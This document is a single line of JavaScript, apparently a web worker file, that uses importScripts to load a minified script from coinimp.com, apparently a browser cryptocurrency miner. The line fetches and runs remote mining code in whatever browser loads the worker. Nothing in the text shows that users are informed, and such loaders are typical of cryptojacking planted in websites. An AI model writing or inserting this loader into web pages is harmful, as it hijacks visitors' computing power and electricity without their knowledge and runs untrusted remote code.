importScripts('//www.coinimp.com/scripts/min.js');
